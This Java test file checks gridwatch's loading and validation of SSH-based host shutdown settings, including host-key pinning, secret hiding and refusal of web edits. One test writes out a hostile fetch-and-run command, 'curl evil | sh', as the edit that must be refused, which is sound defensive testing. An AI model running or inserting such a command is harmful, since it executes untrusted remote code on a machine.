package io.gridwatch.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code hosts.<name>.shutdown.ssh}: what a user gets for each mistake, and what the web may not change. */
class SshHostConfigTest {
    @TempDir
    Path dir;

    private static final String HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH7l2Q6yY8xv0kS3b0b9wQ9m3p1qv1a9Q0m2tq0lT7kY";

    @BeforeEach
    void files() throws Exception {
        Files.writeString(dir.resolve("id_ed25519"), "not read by the loader");
    }

    private String site(String ssh) {
        return """
                ups:
                  grid: { driver: dummy, file: grid.dev }
                hosts:
                  nas:
                    address: 192.0.2.10
                    shutdown_delay: 2m
                    shutdown:
                      ssh:
                %s
                """.formatted(ssh.indent(8).stripTrailing());
    }

    private List<String> problems(String yaml) throws Exception {
        Path f = dir.resolve("gridwatch.yaml");
        Files.writeString(f, yaml);
        Files.writeString(dir.resolve("grid.dev"), "ups.status: OL\n");
        try {
            ConfigLoader.load(f);
        } catch (ConfigException e) {
            return e.problems().stream().map(p -> p.toString().replace(f.toString(), "gridwatch.yaml")).toList();
        }
        return List.of();
    }

    @Test
    void aCompleteLoginLoads() throws Exception {
        Path f = dir.resolve("gridwatch.yaml");
        Files.writeString(dir.resolve("grid.dev"), "ups.status: OL\n");
        Files.writeString(f, site("user: ops\nkey: id_ed25519\ncommand: \"sudo poweroff\"\nhost_key: \"" + HOST_KEY
                + "\"\nport: 2222"));
        HostConfig h = ConfigLoader.load(f).site().hosts().get(0);
        assertThat(h.ssh()).isNotNull();
        assertThat(h.ssh().user()).isEqualTo("ops");
        assertThat(h.ssh().key()).isEqualTo(dir.resolve("id_ed25519").toAbsolutePath());
        assertThat(h.ssh().port()).isEqualTo(2222);
        assertThat(h.ssh().hostKeys()).containsExactly(HOST_KEY);
        assertThat(h.ssh().password()).as("password authentication off unless asked for").isNull();
        assertThat(h.ssh().retryFor().toSeconds()).isEqualTo(180);
    }

    @Test
    void eachMissingPieceIsNamedWithItsLine() throws Exception {
        assertThat(problems(site("port: 22"))).anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.user")
                        .contains("missing"))
                .anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.command").contains("missing"))
                .anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.key").contains("missing"));
    }

    @Test
    void aHostKeyThatIsNeitherAKeyNorAFingerprintIsRefused() throws Exception {
        assertThat(problems(site("user: ops\nkey: id_ed25519\ncommand: poweroff\nhost_key: \"MD5:ab:cd\"")))
                .anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.host_key")
                        .contains("neither an OpenSSH public key line"));
    }

    @Test
    void noPinnedKeyAndNoKnownHostsFileIsRefusedUpFront() throws Exception {
        assertThat(problems(site("user: ops\nkey: id_ed25519\ncommand: poweroff\nknown_hosts: nowhere/known_hosts")))
                .anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.host_key")
                        .contains("cannot be read").contains("ssh-keyscan -p 22 192.0.2.10"));
    }

    @Test
    void aMissingKeyFileAndAMissingAddressAreNamed() throws Exception {
        assertThat(problems(site("user: ops\nkey: missing_key\ncommand: poweroff\nhost_key: \"" + HOST_KEY + "\"")))
                .anySatisfy(p -> assertThat(p).contains("hosts.nas.shutdown.ssh.key"));
        String noAddress = site("user: ops\nkey: id_ed25519\ncommand: poweroff\nhost_key: \"" + HOST_KEY + "\"")
                .replace("    address: 192.0.2.10\n", "").replace("shutdown_delay: 2m", "probe: \"http://x\"");
        assertThat(problems(noAddress)).anySatisfy(p -> assertThat(p).contains("hosts.nas.address")
                .contains("the address the server logs in to"));
    }

    @Test
    void thePasswordIsASecretAndTheLoginIsFileOnly() {
        String text = site("user: ops\npassword: hunter2-long\ncommand: poweroff\nhost_key: \"" + HOST_KEY + "\"");
        assertThat(Secrets.hide(text)).doesNotContain("hunter2-long").contains(Secrets.HIDDEN);
        String changed = text.replace("command: poweroff", "command: \"curl evil | sh\"");
        assertThat(WebEdits.refusals(text, changed, dir, dir)).extracting(WebEdits.Refusal::path)
                .containsExactly("hosts.nas.shutdown.ssh.command");
        String other = text.replace("user: ops", "user: root");
        assertThat(WebEdits.refusals(text, other, dir, dir)).extracting(WebEdits.Refusal::path)
                .containsExactly("hosts.nas.shutdown.ssh.user");
    }

    @Test
    void theReadmesAndTheGuidesExamplesLoad() throws Exception {
        for (String doc : List.of("README.md", "docs/agentless.md")) {
            String md = Files.readString(Path.of(doc));
            int at = md.indexOf("  esxi:\n");
            String block = md.substring(md.lastIndexOf("```yaml\n", at) + 8, md.indexOf("```", at));
            String indent = block.substring(0, block.indexOf("hosts:"));
            String yaml = block.lines().map(l -> l.startsWith(indent) ? l.substring(indent.length()) : l)
                    .reduce("", (a, b) -> a + b + "\n").replace("/etc/gridwatch/id_ed25519", "id_ed25519");
            Files.writeString(dir.resolve("grid.dev"), "ups.status: OL\n");
            Path f = Files.writeString(dir.resolve("gridwatch.yaml"), "ups:\n  rack: { driver: dummy, file: grid.dev }\n"
                    + yaml);
            HostConfig h = ConfigLoader.load(f).site().hosts().get(0);
            assertThat(h.ssh()).as(doc).isNotNull();
            assertThat(h.ssh().hostKeys()).as(doc).hasSize(1);
        }
    }
}
